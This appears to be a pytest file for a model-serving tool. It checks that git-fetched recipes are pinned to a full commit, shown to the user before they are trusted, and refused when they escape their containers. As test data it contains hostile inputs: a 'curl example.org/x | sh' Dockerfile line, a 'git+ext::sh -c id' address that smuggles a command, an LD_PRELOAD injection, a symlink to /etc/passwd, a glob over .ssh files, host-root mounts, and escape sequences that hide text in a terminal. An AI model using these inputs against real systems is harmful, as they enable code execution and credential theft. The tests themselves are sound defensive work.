"""A recipe by git address and commit: shown before it is trusted, and confined to its own files."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from sparkserve import cli, recipe_git
from sparkserve.errors import SparkserveError
from sparkserve.git import export_commit
from sparkserve.hosts import LocalHost
from sparkserve.lifecycle import find_recipe
from sparkserve.recipe_source import shipped_names

RECIPE = 'schema = 1\nextends = "smoke"\nname = "theirs"\n'
MOUNT = '[container]\nmounts = [{{{{ source = "{}", target = "/host" }}}}]\n'
BUILT = '[image]\nreference = ""\ndockerfile = "Dockerfile"\nbase = "a/b:1"\n'


def git(*words: str, directory: Path) -> str:
    argv = ["git", "-c", "user.name=n", "-c", "user.email=e@x", "-c", "init.defaultBranch=main", *words]
    return subprocess.run(argv, cwd=directory, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return {"XDG_STATE_HOME": str(tmp_path / "state")}


def publish(root: Path, toml: str = RECIPE, dockerfile: str = "", **links: str) -> str:
    """Make a repository with one recipe in it; give the recipe's address."""
    source = root / "repository"
    folder = source / "recipes" / "theirs"
    folder.mkdir(parents=True)
    (folder / "recipe.toml").write_text(toml)
    (folder / "Dockerfile").write_text(dockerfile)
    for name, target in links.items():
        (folder / name).symlink_to(target)
    git("init", "--quiet", directory=source)
    git("add", ".", directory=source)
    git("commit", "--quiet", "-m", "x", directory=source)
    return f"git+file://{source}@{git('rev-parse', 'HEAD', directory=source)}#recipes/theirs"


def test_it_is_shown_asked_for_and_then_remembered(
    tmp_path: Path, environment: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    address = publish(tmp_path)
    with pytest.raises(SparkserveError) as caught:
        find_recipe(address, environment)
    assert (caught.value.code, caught.value.hint) == ("recipe_untrusted", f"sparkserve recipes add {address}")
    assert cli._run(["recipes", "add", address]) == 2, "nobody there to answer"
    assert "--yes" in capsys.readouterr().err
    with pytest.raises(SparkserveError):
        find_recipe(address, environment)
    before = {*tmp_path.rglob("*")}
    assert cli._run(["recipes", "add", address, "--yes", "--dry-run"]) == 0
    assert "theirs: Qwen3-4B" in capsys.readouterr().out
    assert {*tmp_path.rglob("*")} == before
    with pytest.raises(SparkserveError):
        find_recipe(address, environment)
    assert cli._run(["recipes", "add", address, "--yes"]) == 0
    assert "theirs: Qwen3-4B" in capsys.readouterr().out
    (tmp_path / "repository").rename(tmp_path / "gone")
    assert find_recipe(address, environment).name == "theirs", "from now on no network is needed"
    assert cli._run(["plan", "--recipe", address]) == 0
    assert "# recipe theirs" in capsys.readouterr().out


def test_all_that_it_would_do_here_is_shown(
    tmp_path: Path, environment: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    toml = '[image]\nreference = ""\ndockerfile = "Dockerfile"\nbase = "a/b:1"\n[launch.env]\nLD_PRELOAD = "/x.so"\n'
    address = publish(tmp_path, RECIPE + toml, "ARG BASE\nFROM ${BASE}\nRUN curl example.org/x | sh\n")
    assert cli._run(["recipes", "add", address, "--yes"]) == 0
    shown = capsys.readouterr().out
    for text in (
        "--env=LD_PRELOAD=/x.so",
        "--mount=type=bind,source=",
        "--device=/dev/infiniband",
        "--cap-add=SYS_PTRACE",
        "RUN curl example.org/x | sh",
        "sysctl vm.swappiness = 0",
    ):
        assert text in shown


def test_another_commit_is_not_trusted(tmp_path: Path, environment: dict[str, str]) -> None:
    address = publish(tmp_path)
    assert cli._run(["recipes", "add", address, "--yes"]) == 0
    source = tmp_path / "repository"
    (source / "recipes/theirs/recipe.toml").write_text(RECIPE + 'why = "changed"\n')
    git("commit", "--quiet", "-am", "y", directory=source)
    moved = f"git+file://{source}@{git('rev-parse', 'HEAD', directory=source)}#recipes/theirs"
    with pytest.raises(SparkserveError, match="was not looked at yet"):
        find_recipe(moved, environment)
    assert find_recipe(address, environment).why != "changed"


@pytest.mark.parametrize(
    "address",
    [
        "git+https://example.org/r.git",
        "git+https://example.org/r.git@main",
        "git+https://example.org/r.git@0123456",
        "git+ext::sh -c id@" + "0" * 40,
        "git+https://example.org/r.git@" + "0" * 40 + "#../up",
    ],
)
def test_only_a_whole_commit_is_an_address(address: str, environment: dict[str, str], tmp_path: Path) -> None:
    with pytest.raises(SparkserveError) as caught:
        recipe_git.fetch(address, tmp_path)
    assert caught.value.code == "recipe_address"


def test_a_commit_that_is_not_there(tmp_path: Path, environment: dict[str, str]) -> None:
    address = publish(tmp_path).partition("@")[0] + "@" + "0" * 40
    with pytest.raises(SparkserveError) as caught:
        recipe_git.fetch(address, tmp_path / "state")
    assert caught.value.code == "recipe_unreachable"
    assert not [path for path in (tmp_path / "state").rglob("*") if path.name == "0" * 40]


def test_a_link_is_refused_and_nothing_of_it_stays(tmp_path: Path, environment: dict[str, str]) -> None:
    address = publish(tmp_path, passwords="/etc/passwd")
    with pytest.raises(SparkserveError) as caught:
        recipe_git.fetch(address, tmp_path / "state")
    assert caught.value.code == "recipe_link"
    assert not list((tmp_path / "state").rglob("passwords"))


@pytest.mark.parametrize(
    ("toml", "words"),
    [
        ('schema = 1\nextends = "{root}/mine"\nname = "theirs"\n', "outside of its repository"),
        (RECIPE + '[container]\nmounts = [{{ source = "/", target = "/host" }}]\n', "mounts / of the node"),
        (RECIPE + '[container]\nmounts = [{{ source = "${{cache}}/../..", target = "/h" }}]\n', "mounts"),
        (RECIPE + '[parameters]\nmodel_name = "../../.."\n' + MOUNT.format("${{cache}}/${{model_name}}"), "mounts"),
        (RECIPE + MOUNT.format("${{cache}}/code/${{model_name}}"), "mounts"),
        (RECIPE + MOUNT.format("${{cache}}"), "mounts"),
        # With a link in its own directory, a container would choose where what is mounted below it leads.
        (RECIPE + MOUNT.format("${{cache}}/code"), "mounts"),
        (RECIPE + MOUNT.format("${{cache}}/code/${{image.id}}/below"), "mounts"),
        # Git runs in here on the node, and does what its configuration says.
        (RECIPE + MOUNT.format("${{cache}}/sources/x.git"), "mounts"),
        (RECIPE + MOUNT.format("${{cache}}/code/.."), "mounts"),
        (RECIPE + '[container]\ndevices = ["/dev/sda"]\n', "wants the device /dev/sda"),
        (RECIPE + '[container]\ndevices = ["/dev/infiniband/../sda"]\n', "wants the device /dev/infiniband/../sda"),
        (RECIPE + '[container]\ndevices = ["/dev/driver"]\n', "wants the device /dev/driver"),
        (RECIPE + '[container]\ndevices = ["/dev/dri/card0:/dev/x"]\n', "wants the device"),
        (RECIPE + '[readiness]\nwarm_files = "/home/*/.ssh/*"\n', "looks for /home/*/.ssh/* on the node"),
        (RECIPE + '[readiness]\nwarm_files = "${{cache}}/../*"\n', "looks for"),
        (RECIPE + BUILT + 'engine_repository = "{root}/own"\nengine_revision = "main"\n', "takes the engine from"),
        (RECIPE + BUILT + 'engine_repository = "file://{root}"\nengine_revision = "main"\n', "takes the engine from"),
        (RECIPE + '[tuning.sysctl]\n"vm.mmap_min_addr" = "0"\n', "sets vm.mmap_min_addr"),
        (RECIPE + '[container]\ncapabilities = ["SYS_ADMIN"]\n', "wants the capability SYS_ADMIN"),
    ],
)
def test_what_reaches_out_of_the_containers_is_refused(
    tmp_path: Path, environment: dict[str, str], toml: str, words: str
) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine/recipe.toml").write_text(RECIPE)
    address = publish(tmp_path, toml.format(root=tmp_path))
    with pytest.raises(SparkserveError) as caught:
        recipe_git.fetch(address, tmp_path / "state")
    assert caught.value.code == "recipe_reaches_out"
    assert words in caught.value.message


def test_the_form_of_every_shipped_recipe_is_taken(tmp_path: Path, environment: dict[str, str]) -> None:
    for name in shipped_names():
        address = publish(tmp_path / name, f'schema = 1\nextends = "{name}"\nname = "theirs"\n')
        assert recipe_git.fetch(address, tmp_path / "state").name == "theirs"


@pytest.mark.parametrize(
    ("toml", "dockerfile"),
    [
        ('title = "a \\u001b[8m"\n', ""),
        ('[launch.env]\n"A\\u001b[2K" = "x"\n', ""),
        ("", "ARG BASE\nFROM ${BASE}\nRUN a \x1b[1A\x1b[2K# nothing\n"),
        ("", "ARG BASE\nFROM ${BASE}\nRUN a # \u202e b\n"),
    ],
)
def test_nothing_hides_from_the_reader_in_a_terminal(
    tmp_path: Path, environment: dict[str, str], toml: str, dockerfile: str
) -> None:
    address = publish(tmp_path, RECIPE + toml + (BUILT if dockerfile else ""), dockerfile)
    with pytest.raises(SparkserveError) as caught:
        recipe_git.fetch(address, tmp_path / "state")
    assert caught.value.code == "recipe_reaches_out"
    assert "which a terminal does not show" in caught.value.message
    assert caught.value.message.isprintable()


def test_files_that_cannot_be_written_are_told(tmp_path: Path) -> None:
    publish(tmp_path)
    place = str(tmp_path / "repository/.git")
    with pytest.raises(SparkserveError) as caught:
        export_commit(LocalHost("head"), place, "HEAD", str(tmp_path / "nowhere"), lambda: None)
    assert (caught.value.code, caught.value.hint) == ("engine_source", f"rm -rf {place}")
